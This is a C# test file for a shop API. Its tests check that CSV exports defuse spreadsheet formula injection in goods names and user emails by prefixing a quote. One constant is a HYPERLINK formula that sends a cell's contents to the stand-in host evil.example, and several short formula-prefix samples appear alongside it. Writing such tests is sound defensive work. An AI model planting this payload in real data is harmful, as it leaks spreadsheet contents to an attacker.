using System.Globalization;
using System.Net.Http.Headers;
using System.Text.Json.Nodes;
using CsvHelper;

namespace Shop.Tests.Rest;

/// <summary>Text cells that a spreadsheet would run as a formula are exported with a leading <c>'</c>; numbers and JSON are untouched.</summary>
public sealed class CsvFormulaTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&C2,\"Click\")";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public static TheoryData<string> FormulaNames => ["=1+2", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];

    [Theory]
    [MemberData(nameof(FormulaNames))]
    public async Task AGoodsNameThatLooksLikeAFormulaIsExportedAsText(string name)
    {
        await using var shop = await ShopApp.StartAsync();
        using var admin = shop.AdminClient();
        var created = await admin.PostAsync("/api/v1/goods", Http.Json(new JsonObject { ["sku"] = "F-1", ["name"] = name, ["price"] = 2.5, ["stock"] = 3 }), Ct);
        created.EnsureSuccessStatusCode();

        var rows = await CsvAsync(shop.Client, "/api/v1/goods?fields=sku,name,price,stock");

        Assert.Equal(["F-1", "'" + name, "2.5", "3"], rows[1]);
        // JSON is a data format, not a spreadsheet: the name stays exactly as stored.
        Assert.Equal(name, (string?)(await (await shop.Client.GetAsync("/api/v1/goods/1", Ct)).ReadJsonAsync())["name"]);
    }

    [Fact]
    public async Task AnEmailThatLooksLikeAFormulaIsExportedAsTextInTheUsersExport()
    {
        await using var shop = await ShopApp.StartAsync();
        var registered = await shop.Client.PostAsync("/api/v1/users",
            Http.Json(new JsonObject { ["username"] = "eve", ["password"] = "eve-password-1", ["email"] = Hyperlink + "@x.example" }), Ct);
        registered.EnsureSuccessStatusCode();
        using var admin = shop.AdminClient();

        var rows = await CsvAsync(admin, "/api/v1/users?fields=username,email");

        Assert.Contains(["eve", "'" + Hyperlink + "@x.example"], rows);
    }

    [Fact]
    public async Task OrdinaryTextAndNumbersAreExportedVerbatim()
    {
        await using var shop = await ShopApp.StartAsync();
        using var admin = shop.AdminClient();
        (await admin.PostAsync("/api/v1/goods", Http.Json("""{"sku":"-X","name":"Tea = good, 1+1","price":0,"stock":0}"""), Ct)).EnsureSuccessStatusCode();

        var rows = await CsvAsync(shop.Client, "/api/v1/goods?fields=sku,name,price,stock");

        // A sku may start with '-': it is text, so it is neutralised too; the numbers never are.
        Assert.Equal(["'-X", "Tea = good, 1+1", "0", "0"], rows[1]);
    }

    private static async Task<List<string[]>> CsvAsync(HttpClient client, string path)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path) { Headers = { Accept = { new MediaTypeWithQualityHeaderValue("text/csv") } } };
        var response = await client.SendAsync(request, Ct);
        response.EnsureSuccessStatusCode();
        using var reader = new CsvReader(new StringReader(await response.Content.ReadAsStringAsync(Ct)), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (await reader.ReadAsync())
        {
            rows.Add(reader.Parser.Record!);
        }
        return rows;
    }
}
